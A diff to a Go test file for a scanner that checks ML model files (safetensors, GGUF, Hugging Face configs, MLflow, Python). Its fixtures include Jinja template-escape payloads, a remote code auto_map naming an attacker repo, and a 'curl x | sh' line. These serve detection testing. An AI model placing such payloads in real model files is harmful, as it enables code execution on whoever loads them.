@@ -2,38 +2,11 @@ package scan
 
 import (
 	"bytes"
-	"context"
 	"encoding/binary"
 	"encoding/json"
-	"os"
-	"path/filepath"
 	"strings"
 	"testing"
 )
-
-// hfScan writes files into a temp folder and scans it.
-func hfScan(t *testing.T, files map[string][]byte) *Report {
-	t.Helper()
-	dir := t.TempDir()
-	for name, data := range files {
-		p := filepath.Join(dir, name)
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(p, data, 0o644); err != nil {
-			t.Fatal(err)
-		}
-	}
-	s, err := New(Options{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	rep, err := s.Scan(context.Background(), dir)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return rep
-}
 
 // hfHas reports whether a finding of the rule exists whose message or
 // callable contains want.
@@ -63,7 +36,7 @@ func stFile(header string, data int) []byte {
 }
 
 func TestSafetensorsHandler(t *testing.T) {
-	rep := hfScan(t, map[string][]byte{
+	rep := scanBytes(t, map[string][]byte{
 		"ok.safetensors":   stFile(`{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}`, 8),
 		"dup.safetensors":  stFile(`{"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"w":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}`, 2),
 		"gap.safetensors":  stFile(`{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[4,6]}}`, 6),
@@ -112,7 +85,7 @@ func ggufFile(kv ...string) []byte {
 func TestGGUFHandler(t *testing.T) {
 	evil := `{{ ()|attr('\x5f\x5fclass\x5f\x5f') }}`
 	good := `{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\n' + m['content'] + '<|im_end|>\n' }}{% endfor %}`
-	rep := hfScan(t, map[string][]byte{
+	rep := scanBytes(t, map[string][]byte{
 		"evil.gguf":  ggufFile("general.architecture", "llama", "tokenizer.chat_template.tool_use", evil),
 		"good.gguf":  ggufFile("general.architecture", "llama", "tokenizer.chat_template", good),
 		"trunc.gguf": ggufFile("general.architecture", "llama")[:30],
@@ -131,7 +104,7 @@ func TestGGUFHandler(t *testing.T) {
 }
 
 func TestHFConfigHandler(t *testing.T) {
-	rep := hfScan(t, map[string][]byte{
+	rep := scanBytes(t, map[string][]byte{
 		"local/config.json":             []byte(`{"architectures":["X"],"auto_map":{"AutoConfig":"configuration_x.XConfig","AutoModel":"modeling_x.XModel"}}`),
 		"remote/config.json":            []byte(`{"auto_map":{"AutoModel":"attacker/evil-repo--modeling_x.XModel"}}`),
 		"tok/tokenizer_config.json":     []byte(`{"auto_map":{"AutoTokenizer":["tok.Slow",null]},"chat_template":"{{ lipsum.__globals__ }}"}`),
@@ -188,7 +161,7 @@ func TestHFLooksKeras(t *testing.T) {
 }
 
 func TestMLflowHandler(t *testing.T) {
-	rep := hfScan(t, map[string][]byte{
+	rep := scanBytes(t, map[string][]byte{
 		"custom/MLmodel": []byte(`flavors:
   python_function:
     loader_module: evil_loader
@@ -231,7 +204,7 @@ func TestMLflowHandler(t *testing.T) {
 }
 
 func TestPythonHandler(t *testing.T) {
-	rep := hfScan(t, map[string][]byte{
+	rep := scanBytes(t, map[string][]byte{
 		"modeling_x.py": []byte("import torch\nclass X(torch.nn.Module):\n    pass\n"),
 		"evil.py":       []byte("import os\ndef f():\n    os.system('curl x | sh')\n"),
 	})
@@ -258,24 +231,16 @@ func TestPythonHandler(t *testing.T) {
 // this handler family's rules may fire at medium or above.
 func TestHFBenignFixtures(t *testing.T) {
 	for _, dir := range []string{"hf-bert-tiny", "gguf", "mlflow-sklearn"} {
-		p := filepath.Join("testdata", "benign", dir)
-		if _, err := os.Stat(p); err != nil {
-			t.Logf("%s not generated yet", p)
-			continue
-		}
-		s, _ := New(Options{})
-		rep, err := s.Scan(context.Background(), p)
-		if err != nil {
-			t.Fatal(err)
-		}
-		for _, f := range rep.Findings {
-			mine := false
-			for _, pre := range []string{"ST", "GGUF", "TPL", "HF", "MLF", "FMT"} {
-				mine = mine || strings.HasPrefix(f.RuleID, pre)
+		t.Run(dir, func(t *testing.T) {
+			for _, f := range scanPaths(t, benignDir(t, dir)).Findings {
+				mine := false
+				for _, pre := range []string{"ST", "GGUF", "TPL", "HF", "MLF", "FMT"} {
+					mine = mine || strings.HasPrefix(f.RuleID, pre)
+				}
+				if mine && f.Severity >= SeverityMedium {
+					t.Errorf("%s: %s %s %s", dir, f.RuleID, f.Location(), f.Message)
+				}
 			}
-			if mine && f.Severity >= SeverityMedium {
-				t.Errorf("%s: %s %s %s", dir, f.RuleID, f.Location(), f.Message)
-			}
-		}
+		})
 	}
 }
